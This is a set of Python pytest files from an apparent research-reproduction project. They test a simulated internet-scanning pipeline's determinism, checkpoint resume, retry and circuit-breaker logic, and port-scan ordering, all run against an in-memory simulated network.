* executor            thread pool / process pool (spawn-safe pickling)
* fault plan          clean / chaos / hostile-supervised
* interruption        straight through / kill-and-resume via checkpoint
* observability       profiling + flight recorder on / off

Each scenario has one golden run (workers=1, thread executor, straight
through); every other arm must reproduce it byte for byte, including the
quarantine lists and the canonical profile/flight dumps.  The matrix is
pruned to pairwise coverage — the hostile supervised scenario carries the
full workers × executor cross because it exercises every subsystem
(chaos, retry, quarantine, restarts, profiling) at once; the lighter
scenarios cover the remaining dimension pairs.
"""

import json

import pytest

from repro.apps.catalog import scanned_ports
from repro.core.checkpoint import Checkpointer
from repro.core.pipeline import ScanPipeline
from repro.core.retry import RetryPolicy
from repro.core.serialize import report_to_dict
from repro.net.chaos import ChaosTransport
from repro.net.transport import InMemoryTransport
from repro.obs.profile import ProfileRollup
from repro.util.clock import SimClock
from tests.core.test_parallel import (
    PLAN,
    CrashingCheckpointer,
    SimulatedCrash,
    build_world,
)
from tests.core.test_supervisor import HOSTILE, SUPERVISED

#: scenario name -> (fault plan, supervisor config, profiling armed)
SCENARIOS = {
    "clean": (None, None, False),
    "clean-profiled": (None, None, True),
    "chaos": (PLAN, None, False),
    "hostile-supervised": (HOSTILE, SUPERVISED, True),
}


def sweep(scenario, workers, executor, checkpoint=None):
    """One sweep over a freshly built world in the given shape."""
    plan, supervisor, profile = SCENARIOS[scenario]
    internet, ips = build_world()
    clock = SimClock()
    transport = InMemoryTransport(internet)
    if plan is not None:
        transport = ChaosTransport(transport, plan, seed=21, clock=clock)
    pipeline = ScanPipeline(
        transport, scanned_ports(), seed=7, batch_size=3,
        fingerprint=False, workers=workers, shard_blocks=2,
        executor=executor,
        retry_policy=(
            RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=4.0)
            if plan is not None else None
        ),
        clock=clock, supervisor=supervisor, profile=profile,
    )
    report = pipeline.run(ips, checkpoint=checkpoint)
    return report, pipeline


def artifacts(report, pipeline):
    """Everything an arm must reproduce byte for byte."""
    rollup = ProfileRollup.from_spans(pipeline.telemetry.tracer.finished)
    return {
        "report": json.dumps(report_to_dict(report), sort_keys=True),
        "telemetry": pipeline.telemetry.export_jsonl(),
        "quarantined_hosts": sorted(report.coverage.quarantined_hosts),
        "quarantined_blocks": sorted(report.coverage.quarantined_blocks),
        "profile": json.dumps(rollup.to_dict(), sort_keys=True),
        "flight": json.dumps(
            pipeline.telemetry.flight.to_dict(), sort_keys=True
        ),
    }


@pytest.fixture(scope="module")
def golden():
    """Scenario -> artifacts of its workers=1 thread straight-through run,
    computed once per test session."""
    cache = {}

    def get(scenario):
        if scenario not in cache:
            cache[scenario] = artifacts(
                *sweep(scenario, workers=1, executor="thread")
            )
        return cache[scenario]

    return get


def _arm_id(arm):
    scenario, workers, executor = arm
    return f"{scenario}-w{workers}-{executor}"


#: the full workers × executor cross on the everything-at-once scenario,
#: plus pairwise coverage of the lighter scenarios
STRAIGHT_ARMS = [
    (scenario, workers, executor)
    for scenario in ("hostile-supervised",)
    for workers in (1, 2, 4, 8)
    for executor in ("thread", "process")
] + [
    ("clean", 1, "process"),
    ("clean", 4, "thread"),
    ("clean", 4, "process"),
    ("clean", 8, "thread"),
    ("clean-profiled", 2, "thread"),
    ("clean-profiled", 4, "process"),
    ("chaos", 2, "process"),
    ("chaos", 4, "thread"),
    ("chaos", 8, "process"),
]

RESUME_ARMS = [
    ("hostile-supervised", 2, "thread"),
    ("hostile-supervised", 4, "process"),
    ("chaos", 4, "process"),
    ("clean", 2, "thread"),
]


class TestStraightThrough:
    @pytest.mark.parametrize("arm", STRAIGHT_ARMS, ids=_arm_id)
    def test_arm_matches_golden(self, arm, golden):
        scenario, workers, executor = arm
        assert artifacts(*sweep(scenario, workers, executor)) == golden(scenario)


class TestKillAndResume:
    @pytest.mark.parametrize("arm", RESUME_ARMS, ids=_arm_id)
    def test_resumed_arm_matches_golden(self, arm, golden, tmp_path):
        scenario, workers, executor = arm
        path = str(tmp_path / "sweep.ckpt")
        crasher = CrashingCheckpointer(path, 2, every_batches=1)
        with pytest.raises(SimulatedCrash):
            sweep(scenario, workers, executor, checkpoint=crasher)
        report, pipeline = sweep(
            scenario, workers, executor,
            checkpoint=Checkpointer(path, every_batches=1),
        )
        assert artifacts(report, pipeline) == golden(scenario)


class TestCrossExecutorResume:
    def test_thread_checkpoint_resumes_under_process_executor(self, tmp_path):
        """A checkpoint is executor-neutral: payloads saved by thread
        workers must fold identically when the resume runs on processes
        (and vice versa), because both store the same JSON-safe form."""
        path = str(tmp_path / "sweep.ckpt")
        crasher = CrashingCheckpointer(path, 2, every_batches=1)
        with pytest.raises(SimulatedCrash):
            sweep("hostile-supervised", 2, "thread", checkpoint=crasher)
        report, pipeline = sweep(
            "hostile-supervised", 2, "process",
            checkpoint=Checkpointer(path, every_batches=1),
        )
        reference = artifacts(
            *sweep("hostile-supervised", 1, "thread")
        )
        assert artifacts(report, pipeline) == reference


class TestIncrementalRescan:
    """The rescan engine's arms of the matrix.

    The engine is sequential by contract (workers, retry, and
    supervision draw per-probe randomness that replayed hosts would not
    consume), so its golden is the SEQUENTIAL pipeline over the same
    interval frame — and its artifact is the serialized report, the only
    thing the incremental contract promises byte for byte.
    """

    @pytest.fixture(scope="class")
    def world(self):
        from repro.net.intervals import BLOCK_MASK, IntervalSet

        internet, ips = build_world()
        frame = IntervalSet(
            (ip.value & BLOCK_MASK, (ip.value & BLOCK_MASK) | 255)
            for ip in ips
        )
        transport = InMemoryTransport(internet)
        return internet, transport, frame

    @pytest.fixture(scope="class")
    def sequential_golden(self, world):
        _, transport, frame = world
        pipeline = ScanPipeline(
            transport, scanned_ports(), seed=7, batch_size=8,
        )
        return json.dumps(report_to_dict(pipeline.run(frame)), sort_keys=True)

    @pytest.fixture(scope="class")
    def engine(self, world):
        from repro.core.rescan import RescanEngine

        _, transport, _ = world
        return RescanEngine(transport, scanned_ports(), seed=7, batch_size=8)

    def test_baseline_matches_sequential_golden(
        self, engine, world, sequential_golden
    ):
        _, _, frame = world
        state = engine.baseline(frame)
        assert (
            json.dumps(report_to_dict(state.report), sort_keys=True)
            == sequential_golden
        )

    def test_zero_churn_rescan_matches_sequential_golden(
        self, engine, world, sequential_golden
    ):
        _, _, frame = world
        state = engine.rescan(frame, engine.baseline(frame))
        assert (
            json.dumps(report_to_dict(state.report), sort_keys=True)
            == sequential_golden
        )

    def test_incremental_kill_and_resume_matches_golden(
        self, engine, world, sequential_golden, tmp_path
    ):
        _, _, frame = world
        prior = engine.baseline(frame)
        path = str(tmp_path / "rescan.ckpt")
        crasher = CrashingCheckpointer(path, 2, every_batches=1)
        with pytest.raises(SimulatedCrash):
            engine.rescan(frame, prior, checkpoint=crasher)
        resumed = engine.rescan(
            frame, prior, checkpoint=Checkpointer(path, every_batches=1)
        )
        assert (
            json.dumps(report_to_dict(resumed.report), sort_keys=True)
            == sequential_golden
        )

    def test_baseline_kill_and_resume_matches_golden(
        self, engine, world, sequential_golden, tmp_path
    ):
        _, _, frame = world
        path = str(tmp_path / "baseline.ckpt")
        crasher = CrashingCheckpointer(path, 2, every_batches=1)
        with pytest.raises(SimulatedCrash):
            engine.baseline(frame, checkpoint=crasher)
        resumed = engine.baseline(
            frame, checkpoint=Checkpointer(path, every_batches=1)
        )
        assert (
            json.dumps(report_to_dict(resumed.report), sort_keys=True)
            == sequential_golden
        )
