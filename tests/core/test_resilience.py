"""Acceptance tests: retries win back recall lost to injected faults.

The paper concedes its measurements are a lower bound because hosts that
were "temporarily unavailable" during the sweep are lost (§6.2).  These
tests pin the resilience layer's headline numbers: under 10% injected
request loss a three-attempt retry policy recovers ≥99% of the loss-free
MAV recall, deterministically, while the retry-free pipeline visibly
degrades.
"""

import pytest

from repro.apps.catalog import scanned_ports
from repro.core.pipeline import ScanPipeline
from repro.core.retry import RetryPolicy
from repro.core.serialize import report_to_dict
from repro.net.chaos import ChaosTransport, FaultPlan
from repro.net.population import PopulationModel, generate_internet
from repro.net.transport import InMemoryTransport
from repro.util.clock import SimClock

SEED = 13
POLICY = RetryPolicy(max_attempts=3, base_delay=0.5, max_delay=8.0, jitter=True)


@pytest.fixture(scope="module")
def population():
    internet, _geo, _census = generate_internet(
        PopulationModel(awe_rate=0.002, vuln_rate=0.1, background_rate=1e-7)
    )
    return internet, internet.populated_addresses()


@pytest.fixture(scope="module")
def baseline(population):
    internet, addresses = population
    pipeline = ScanPipeline(
        InMemoryTransport(internet), scanned_ports(), fingerprint=False
    )
    report = pipeline.run(addresses)
    return {ip.value for ip in report.vulnerable_ips()}


def run_lossy(population, retry=False):
    internet, addresses = population
    plan = FaultPlan.packet_loss(0.10)
    clock = SimClock()
    transport = ChaosTransport(
        InMemoryTransport(internet), plan, seed=SEED, clock=clock
    )
    pipeline = ScanPipeline(
        transport, scanned_ports(), fingerprint=False,
        retry_policy=POLICY if retry else None, clock=clock,
    )
    return pipeline.run(addresses)


class TestRecallRecovery:
    def test_baseline_is_substantial(self, baseline):
        assert len(baseline) > 100  # the bar below must mean something

    def test_without_retries_recall_degrades(self, population, baseline):
        report = run_lossy(population, retry=False)
        recall = len(report.vulnerable_ips()) / len(baseline)
        assert recall < 0.9
        assert report.retry_stats.operations == 0  # layer genuinely off

    def test_with_retries_recall_exceeds_99_percent(self, population, baseline):
        """Acceptance: 3 attempts under 10% request loss → ≥0.99 recall."""
        report = run_lossy(population, retry=True)
        found = {ip.value for ip in report.vulnerable_ips()}
        assert not (found - baseline)  # retries add no false positives
        recall = len(found) / len(baseline)
        assert recall >= 0.99
        assert report.retry_stats.recovered > 0
        assert report.retry_stats.backoff_seconds > 0

    def test_retry_run_is_deterministic(self, population):
        """Same seed → bit-identical report, retries and jitter included."""
        first = report_to_dict(run_lossy(population, retry=True))
        second = report_to_dict(run_lossy(population, retry=True))
        assert first == second
