"""Tests for the retry policy, circuit breaker, and retry executor."""

import random

import pytest

from repro.core.retry import CircuitBreaker, RetryExecutor, RetryPolicy, RetryStats
from repro.net.ipv4 import IPv4Address
from repro.util.clock import SimClock
from repro.util.errors import (
    CircuitOpen,
    ConnectionTimeout,
    PoisonError,
    QuarantineSkip,
)

IP = IPv4Address.parse("203.0.113.7")
SIBLING = IPv4Address(IP.value + 1)
OTHER_BLOCK = IPv4Address.parse("203.0.114.7")


class TestRetryPolicy:
    def test_validation(self):
        with pytest.raises(ValueError):
            RetryPolicy(max_attempts=0)
        with pytest.raises(ValueError):
            RetryPolicy(base_delay=5.0, max_delay=1.0)
        with pytest.raises(ValueError):
            RetryPolicy(exponential_base=0.5)
        with pytest.raises(ValueError):
            RetryPolicy(per_host_budget=-1)
        with pytest.raises(ValueError):
            RetryPolicy(deadline=0.0)

    def test_backoff_grows_exponentially_without_jitter(self):
        policy = RetryPolicy(base_delay=1.0, max_delay=60.0, jitter=False)
        rng = random.Random(0)
        delays = [policy.backoff_delay(a, rng) for a in range(4)]
        assert delays == [1.0, 2.0, 4.0, 8.0]

    def test_backoff_caps_at_max_delay(self):
        policy = RetryPolicy(base_delay=1.0, max_delay=5.0, jitter=False)
        rng = random.Random(0)
        assert policy.backoff_delay(10, rng) == 5.0

    def test_jitter_stays_in_half_open_interval(self):
        policy = RetryPolicy(base_delay=4.0, max_delay=60.0, jitter=True)
        rng = random.Random(1)
        for _ in range(200):
            delay = policy.backoff_delay(0, rng)
            assert 2.0 <= delay <= 4.0

    def test_jitter_is_deterministic_per_seed(self):
        policy = RetryPolicy()
        first = [policy.backoff_delay(a, random.Random(9)) for a in range(5)]
        second = [policy.backoff_delay(a, random.Random(9)) for a in range(5)]
        assert first == second


class FailNTimes:
    """Raises ConnectionTimeout on the first ``n`` calls, then succeeds."""

    def __init__(self, n, result="ok"):
        self.n = n
        self.result = result
        self.calls = 0

    def __call__(self):
        self.calls += 1
        if self.calls <= self.n:
            raise ConnectionTimeout("injected")
        return self.result


class TestRetryExecutorCall:
    def _executor(self, policy=None, **kwargs):
        policy = policy or RetryPolicy(max_attempts=3, jitter=False)
        return RetryExecutor(policy, rng=random.Random(0), **kwargs)

    def test_success_first_try(self):
        executor = self._executor()
        assert executor.call(IP, FailNTimes(0)) == "ok"
        assert executor.stats.operations == 1
        assert executor.stats.attempts == 1
        assert executor.stats.retries == 0
        assert executor.stats.recovered == 0

    def test_recovery_after_failures(self):
        executor = self._executor()
        operation = FailNTimes(2)
        assert executor.call(IP, operation) == "ok"
        assert operation.calls == 3
        assert executor.stats.attempts == 3
        assert executor.stats.retries == 2
        assert executor.stats.recovered == 1
        assert executor.stats.exhausted == 0

    def test_exhaustion_reraises_last_error(self):
        executor = self._executor()
        with pytest.raises(ConnectionTimeout):
            executor.call(IP, FailNTimes(99))
        assert executor.stats.exhausted == 1
        assert executor.stats.attempts == 3
        assert executor.stats.recovered == 0

    def test_backoff_charged_to_clock(self):
        clock = SimClock()
        executor = self._executor(clock=clock)
        executor.call(IP, FailNTimes(2))
        # no jitter: 1.0 + 2.0 simulated seconds of backoff
        assert clock.now == pytest.approx(3.0)
        assert executor.stats.backoff_seconds == pytest.approx(3.0)

    def test_per_host_budget_denies_further_retries(self):
        policy = RetryPolicy(max_attempts=3, jitter=False, per_host_budget=2)
        executor = self._executor(policy)
        with pytest.raises(ConnectionTimeout):
            executor.call(IP, FailNTimes(99))  # burns the 2-retry budget
        operation = FailNTimes(1)
        with pytest.raises(ConnectionTimeout):
            executor.call(IP, operation)  # would recover, but no budget left
        assert operation.calls == 1
        assert executor.stats.budget_denials == 1
        # other hosts have their own budget
        assert executor.call(OTHER_BLOCK, FailNTimes(1)) == "ok"

    def test_deadline_denies_slow_retries(self):
        policy = RetryPolicy(
            max_attempts=5, base_delay=10.0, max_delay=60.0, jitter=False,
            deadline=15.0,
        )
        executor = self._executor(policy)
        operation = FailNTimes(99)
        with pytest.raises(ConnectionTimeout):
            executor.call(IP, operation)
        # first retry costs 10s (allowed), second would make 30s > 15s
        assert operation.calls == 2
        assert executor.stats.deadline_denials == 1

    def test_single_attempt_policy_never_retries(self):
        executor = self._executor(RetryPolicy(max_attempts=1))
        with pytest.raises(ConnectionTimeout):
            executor.call(IP, FailNTimes(1))
        assert executor.stats.retries == 0


class TestRetryExecutorProbe:
    def _executor(self, **kwargs):
        return RetryExecutor(
            RetryPolicy(max_attempts=3, jitter=False, per_host_budget=2),
            rng=random.Random(0), **kwargs,
        )

    def test_reprobe_recovers_lost_probe(self):
        executor = self._executor()
        answers = iter([False, True])
        assert executor.probe(IP, lambda: next(answers))
        assert executor.stats.recovered == 1

    def test_closed_port_returns_false_without_exhausted(self):
        executor = self._executor()
        assert not executor.probe(IP, lambda: False)
        assert executor.stats.attempts == 3
        # a closed port is not a failed operation
        assert executor.stats.exhausted == 0

    def test_probe_retries_do_not_consume_host_budget(self):
        executor = self._executor()
        for _ in range(10):  # 20 re-probes, far past the 2-retry budget
            executor.probe(IP, lambda: False)
        assert executor.stats.budget_denials == 0
        # the request path still has its full budget afterwards
        assert executor.call(IP, FailNTimes(2)) == "ok"

    def test_probe_misses_do_not_feed_the_breaker(self):
        breaker = CircuitBreaker(failure_threshold=2)
        executor = self._executor(breaker=breaker)
        for _ in range(5):
            executor.probe(IP, lambda: False)
        assert breaker.allow(IP)
        assert breaker.open_circuits() == 0


class TestCircuitBreaker:
    def test_opens_after_consecutive_failures(self):
        breaker = CircuitBreaker(failure_threshold=3, cooldown=300.0)
        for _ in range(3):
            breaker.record_failure(IP)
        assert not breaker.allow(IP)
        assert breaker.opened == 1
        assert breaker.open_circuits() == 1
        # an unrelated host is unaffected
        assert breaker.allow(OTHER_BLOCK)

    def test_success_resets_the_failure_streak(self):
        breaker = CircuitBreaker(failure_threshold=3)
        breaker.record_failure(IP)
        breaker.record_failure(IP)
        breaker.record_success(IP)
        breaker.record_failure(IP)
        breaker.record_failure(IP)
        assert breaker.allow(IP)

    def test_half_open_trial_success_closes(self):
        clock = SimClock()
        breaker = CircuitBreaker(failure_threshold=2, cooldown=100.0, clock=clock)
        breaker.record_failure(IP)
        breaker.record_failure(IP)
        assert not breaker.allow(IP)
        clock.advance(101.0)
        assert breaker.allow(IP)  # half-open: one trial admitted
        breaker.record_success(IP)
        assert breaker.allow(IP)
        assert breaker.open_circuits() == 0

    def test_half_open_trial_failure_reopens_at_once(self):
        clock = SimClock()
        breaker = CircuitBreaker(failure_threshold=2, cooldown=100.0, clock=clock)
        breaker.record_failure(IP)
        breaker.record_failure(IP)
        clock.advance(101.0)
        assert breaker.allow(IP)
        breaker.record_failure(IP)  # the single trial fails
        assert not breaker.allow(IP)

    def test_slash24_circuit_covers_sibling_hosts(self):
        breaker = CircuitBreaker(failure_threshold=100, slash24_threshold=4)
        block = [IPv4Address(IP.value & 0xFFFFFF00 | i) for i in range(4)]
        for ip in block:
            breaker.record_failure(ip)
        assert not breaker.allow(SIBLING)  # never touched individually
        assert breaker.allow(OTHER_BLOCK)

    def test_clockless_breaker_recovers_via_event_ticks(self):
        breaker = CircuitBreaker(failure_threshold=2, cooldown=3.0)
        breaker.record_failure(IP)
        breaker.record_failure(IP)
        assert not breaker.allow(IP)
        for _ in range(5):  # unrelated activity moves the tick clock
            breaker.record_success(OTHER_BLOCK)
        assert breaker.allow(IP)

    def test_snapshot_restore_round_trip(self):
        breaker = CircuitBreaker(failure_threshold=2)
        breaker.record_failure(IP)
        breaker.record_failure(IP)
        state = breaker.snapshot_state()
        fresh = CircuitBreaker(failure_threshold=2)
        fresh.restore_state(state)
        assert not fresh.allow(IP)
        assert fresh.opened == 1

    def test_validation(self):
        with pytest.raises(ValueError):
            CircuitBreaker(failure_threshold=0)
        with pytest.raises(ValueError):
            CircuitBreaker(cooldown=0.0)


class TestExecutorWithBreaker:
    def test_open_circuit_raises_circuit_open(self):
        breaker = CircuitBreaker(failure_threshold=1, cooldown=1e9)
        executor = RetryExecutor(
            RetryPolicy(max_attempts=1), rng=random.Random(0), breaker=breaker
        )
        with pytest.raises(ConnectionTimeout):
            executor.call(IP, FailNTimes(9))
        with pytest.raises(CircuitOpen):
            executor.call(IP, FailNTimes(0))
        assert executor.stats.breaker_skips == 1

    def test_open_circuit_skips_probes(self):
        breaker = CircuitBreaker(failure_threshold=1, cooldown=1e9)
        executor = RetryExecutor(
            RetryPolicy(max_attempts=1), rng=random.Random(0), breaker=breaker
        )
        with pytest.raises(ConnectionTimeout):
            executor.call(IP, FailNTimes(9))
        assert not executor.probe(IP, lambda: True)
        assert executor.stats.breaker_skips == 1

    def test_breaker_stops_mid_operation_retries(self):
        breaker = CircuitBreaker(failure_threshold=2, cooldown=1e9)
        executor = RetryExecutor(
            RetryPolicy(max_attempts=5, jitter=False),
            rng=random.Random(0), breaker=breaker,
        )
        operation = FailNTimes(99)
        with pytest.raises(ConnectionTimeout):
            executor.call(IP, operation)
        # the second failure opened the circuit, so no third attempt
        assert operation.calls == 2
        assert executor.stats.breaker_skips == 1


class TestRetryStats:
    def test_merge_and_copy(self):
        a = RetryStats(operations=2, retries=1, backoff_seconds=1.5)
        b = RetryStats(operations=3, recovered=1, backoff_seconds=0.5)
        c = a.copy()
        c.merge(b)
        assert c.operations == 5
        assert c.retries == 1
        assert c.recovered == 1
        assert c.backoff_seconds == pytest.approx(2.0)
        assert a.operations == 2  # copy detached from the original

    def test_dict_round_trip(self):
        stats = RetryStats(operations=4, exhausted=2, breaker_skips=1)
        assert RetryStats.from_dict(stats.to_dict()) == stats

    def test_from_dict_ignores_unknown_keys(self):
        assert RetryStats.from_dict({"operations": 1, "future_field": 9}) == RetryStats(
            operations=1
        )

    def test_executor_snapshot_restore(self):
        executor = RetryExecutor(
            RetryPolicy(max_attempts=3, jitter=True), rng=random.Random(5)
        )
        executor.call(IP, FailNTimes(1))
        state = executor.snapshot_state()
        tail = [executor._rng.random() for _ in range(10)]

        fresh = RetryExecutor(
            RetryPolicy(max_attempts=3, jitter=True), rng=random.Random(5)
        )
        fresh.restore_state(state)
        assert [fresh._rng.random() for _ in range(10)] == tail
        assert fresh.stats == executor.stats


class FakeSupervision:
    """Duck-typed stand-in for ShardSupervision."""

    def __init__(self, quarantined=()):
        self.quarantined = {ip.value for ip in quarantined}
        self.poisons = []
        self.activity = []

    def is_quarantined(self, ip):
        return ip.value in self.quarantined

    def note_poison(self, ip):
        self.poisons.append(ip.value)

    def note_activity(self, ip):
        self.activity.append(ip.value)


class CrashingParser:
    """An operation whose *response* deterministically crashes the caller."""

    def __init__(self):
        self.calls = 0

    def __call__(self):
        self.calls += 1
        raise RuntimeError("poison body")


class TestPoisonClassification:
    def _executor(self, **kwargs):
        return RetryExecutor(
            RetryPolicy(max_attempts=3, jitter=False),
            rng=random.Random(0), **kwargs,
        )

    def test_non_transport_error_is_poison_not_retried(self):
        """A deterministic crash must not burn retry budget: the same
        response would crash the same way on every attempt."""
        executor = self._executor()
        operation = CrashingParser()
        with pytest.raises(PoisonError):
            executor.call(IP, operation)
        assert operation.calls == 1  # never retried
        assert executor.stats.poisoned == 1
        assert executor.stats.retries == 0
        assert executor.stats.exhausted == 0

    def test_poison_error_is_a_transport_error(self):
        """Stage-level TransportError handling must degrade gracefully."""
        from repro.util.errors import TransportError

        assert issubclass(PoisonError, TransportError)

    def test_poison_chains_the_original_exception(self):
        executor = self._executor()
        with pytest.raises(PoisonError) as excinfo:
            executor.call(IP, CrashingParser())
        assert isinstance(excinfo.value.__cause__, RuntimeError)

    def test_poison_reported_to_supervision(self):
        supervision = FakeSupervision()
        executor = self._executor(supervision=supervision)
        with pytest.raises(PoisonError):
            executor.call(IP, CrashingParser())
        assert supervision.poisons == [IP.value]

    def test_nested_poison_not_double_counted(self):
        """A PoisonError from a nested executor call passes through the
        outer call without being classified (and counted) again."""
        supervision = FakeSupervision()
        inner = self._executor(supervision=supervision)
        outer = self._executor(supervision=supervision)

        def nested():
            return inner.call(IP, CrashingParser())

        with pytest.raises(PoisonError):
            outer.call(IP, nested)
        assert inner.stats.poisoned == 1
        assert outer.stats.poisoned == 0
        assert supervision.poisons == [IP.value]

    def test_transport_errors_still_retry(self):
        executor = self._executor(supervision=FakeSupervision())
        operation = FailNTimes(2)
        assert executor.call(IP, operation) == "ok"
        assert executor.stats.poisoned == 0
        assert executor.stats.retries == 2


class TestQuarantineGate:
    def _executor(self, supervision):
        return RetryExecutor(
            RetryPolicy(max_attempts=3, jitter=False),
            rng=random.Random(0), supervision=supervision,
        )

    def test_call_refuses_quarantined_target(self):
        executor = self._executor(FakeSupervision(quarantined=(IP,)))
        operation = FailNTimes(0)
        with pytest.raises(QuarantineSkip):
            executor.call(IP, operation)
        assert operation.calls == 0  # never touched the wire
        assert executor.stats.quarantine_skips == 1
        assert executor.stats.operations == 0

    def test_quarantine_skip_is_a_transport_error(self):
        from repro.util.errors import TransportError

        assert issubclass(QuarantineSkip, TransportError)

    def test_probe_refuses_quarantined_target(self):
        executor = self._executor(FakeSupervision(quarantined=(IP,)))
        calls = []
        assert executor.probe(IP, lambda: calls.append(1) or True) is False
        assert calls == []
        assert executor.stats.quarantine_skips == 1

    def test_other_hosts_unaffected(self):
        executor = self._executor(FakeSupervision(quarantined=(IP,)))
        assert executor.call(OTHER_BLOCK, FailNTimes(0)) == "ok"
        assert executor.probe(OTHER_BLOCK, lambda: True) is True

    def test_stats_roundtrip_includes_new_fields(self):
        stats = RetryStats(poisoned=3, quarantine_skips=2)
        back = RetryStats.from_dict(stats.to_dict())
        assert back == stats
        merged = RetryStats(poisoned=1)
        merged.merge(stats)
        assert merged.poisoned == 4
        assert merged.quarantine_skips == 2
