"""Tests for the stage-I port scanner."""

import random

import pytest

from repro.apps.base import AppInstance
from repro.apps.catalog import create_instance
from repro.core.masscan import Masscan, PortScanResult, burst_profile
from repro.net.host import Host, Service
from repro.net.ipv4 import IPv4Address
from repro.net.network import SimulatedInternet
from repro.net.transport import InMemoryTransport


@pytest.fixture()
def small_world():
    internet = SimulatedInternet()
    ips = []
    for index in range(8):
        ip = IPv4Address.parse(f"100.0.113.{index + 1}")
        host = Host(ip)
        host.add_service(
            Service(8888, app=AppInstance(create_instance("jupyterlab"), 8888))
        )
        internet.add_host(host)
        ips.append(ip)
    return internet, ips


class TestMasscan:
    def test_finds_open_ports(self, small_world):
        internet, ips = small_world
        scanner = Masscan(InMemoryTransport(internet), ports=(80, 8888))
        result = scanner.scan(ips)
        assert all(result.ports_of(ip) == (8888,) for ip in ips)

    def test_dark_addresses_dropped(self, small_world):
        internet, ips = small_world
        scanner = Masscan(InMemoryTransport(internet), ports=(8888,))
        dark = IPv4Address.parse("93.184.216.34")  # routable but unpopulated
        result = scanner.scan(ips + [dark])
        assert dark.value not in result.open_ports
        assert result.addresses_scanned == len(ips) + 1

    def test_reserved_addresses_excluded(self, small_world):
        internet, ips = small_world
        scanner = Masscan(InMemoryTransport(internet), ports=(8888,))
        reserved = IPv4Address.parse("10.1.2.3")
        result = scanner.scan(ips + [reserved])
        assert result.addresses_scanned == len(ips)

    def test_probe_count(self, small_world):
        internet, ips = small_world
        scanner = Masscan(InMemoryTransport(internet), ports=(80, 443, 8888))
        result = scanner.scan(ips)
        assert result.probes_sent == 3 * len(ips)

    def test_batching_covers_everything(self, small_world):
        internet, ips = small_world
        scanner = Masscan(InMemoryTransport(internet), ports=(8888,))
        merged = PortScanResult()
        batches = list(scanner.scan_in_batches(ips, batch_size=3))
        assert len(batches) == 3  # 3 + 3 + 2
        for batch in batches:
            merged.merge(batch)
        assert len(merged.open_ports) == len(ips)

    def test_invalid_batch_size(self, small_world):
        internet, ips = small_world
        scanner = Masscan(InMemoryTransport(internet), ports=(8888,))
        with pytest.raises(ValueError):
            list(scanner.scan_in_batches(ips, batch_size=0))

    def test_count_per_port(self, small_world):
        internet, ips = small_world
        scanner = Masscan(InMemoryTransport(internet), ports=(8888,))
        result = scanner.scan(ips)
        assert result.count_per_port() == {8888: len(ips)}


class TestScanOrder:
    def _block_targets(self):
        # 4 /24 blocks x 64 addresses.
        targets = []
        for block in range(4):
            for offset in range(64):
                targets.append(IPv4Address.parse(f"198.51.{100 + block}.{offset + 1}"))
        return targets

    def test_randomised_order_interleaves_blocks(self):
        scanner = Masscan(
            InMemoryTransport(SimulatedInternet()), ports=(80,),
            rng=random.Random(5),
        )
        order = scanner.target_order(self._block_targets())
        # Sequential order would put all 64 of a /24 adjacently; randomised
        # order must break those runs.
        longest_run = run = 1
        for a, b in zip(order, order[1:]):
            run = run + 1 if a.value >> 8 == b.value >> 8 else 1
            longest_run = max(longest_run, run)
        assert longest_run == 64  # within-block still contiguous per design

    def test_sequential_order_is_sorted(self):
        scanner = Masscan(
            InMemoryTransport(SimulatedInternet()), ports=(80,),
            randomise_order=False,
        )
        order = scanner.target_order(self._block_targets())
        assert [ip.value for ip in order] == sorted(ip.value for ip in order)

    def test_order_is_deterministic_per_seed(self):
        targets = self._block_targets()
        orders = []
        for _ in range(2):
            scanner = Masscan(
                InMemoryTransport(SimulatedInternet()), ports=(80,),
                rng=random.Random(9),
            )
            orders.append([ip.value for ip in scanner.target_order(targets)])
        assert orders[0] == orders[1]

    def test_burst_profile_distinguishes_orders(self):
        targets = self._block_targets()
        sequential = Masscan(
            InMemoryTransport(SimulatedInternet()), ports=(80,),
            randomise_order=False,
        ).target_order(targets)
        seq_peak = max(burst_profile(sequential, window=32).values())
        assert seq_peak == 32  # worst case: the window is one block

        # Shuffling address order globally spreads blocks out.
        rng = random.Random(1)
        shuffled_order = list(targets)
        rng.shuffle(shuffled_order)
        rnd_peak = max(burst_profile(shuffled_order, window=32).values())
        assert rnd_peak < seq_peak


class TestHotPaths:
    """The perf-PR rewrites must be behaviour-preserving."""

    def _mixed_order(self):
        rng = random.Random(4)
        targets = [
            IPv4Address.parse(f"198.51.{100 + block}.{offset + 1}")
            for block in range(4)
            for offset in range(32)
        ]
        rng.shuffle(targets)
        return targets

    def test_burst_profile_matches_naive_reference(self):
        order = self._mixed_order()
        window = 8

        def naive(order, window):
            peaks = {}
            for i, ip in enumerate(order):
                block = ip.value & 0xFFFFFF00
                recent = order[max(0, i - window + 1): i + 1]
                count = sum(
                    1 for other in recent
                    if other.value & 0xFFFFFF00 == block
                )
                peaks[block] = max(peaks.get(block, 0), count)
            return peaks

        assert burst_profile(order, window=window) == naive(order, window)

    def test_lazy_iteration_equals_materialised_order(self):
        targets = self._mixed_order()
        eager = Masscan(
            InMemoryTransport(SimulatedInternet()), ports=(80,),
            rng=random.Random(11),
        ).target_order(targets)
        lazy = list(
            Masscan(
                InMemoryTransport(SimulatedInternet()), ports=(80,),
                rng=random.Random(11),
            ).iter_target_order(targets)
        )
        assert lazy == eager

    def test_batched_skip_equals_slicing_the_order(self, small_world):
        internet, ips = small_world
        order = Masscan(
            InMemoryTransport(internet), ports=(8888,), rng=random.Random(2),
        ).target_order(ips)
        skip = 3
        scanner = Masscan(
            InMemoryTransport(internet), ports=(8888,), rng=random.Random(2),
        )
        merged = PortScanResult()
        for batch in scanner.scan_in_batches(ips, batch_size=2, skip=skip):
            merged.merge(batch)
        assert merged.addresses_scanned == len(ips) - skip
        # every target is an open host, so open_ports names the scanned set
        assert sorted(merged.open_ports) == sorted(
            ip.value for ip in order[skip:]
        )

    def test_fast_path_and_retry_path_agree(self, small_world):
        from repro.core.retry import RetryExecutor, RetryPolicy

        internet, ips = small_world
        fast = Masscan(InMemoryTransport(internet), ports=(80, 8888))
        slow = Masscan(
            InMemoryTransport(internet), ports=(80, 8888),
            retry=RetryExecutor(RetryPolicy(max_attempts=2)),
        )
        a, b = fast.scan(ips), slow.scan(ips)
        assert a.open_ports == b.open_ports
        assert a.probes_sent == b.probes_sent
        assert a.addresses_scanned == b.addresses_scanned
