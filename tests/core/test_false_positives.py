"""Adversarial false-positive resistance (paper §6.2).

"The MAV detection plugins in our pipeline make very specific requests
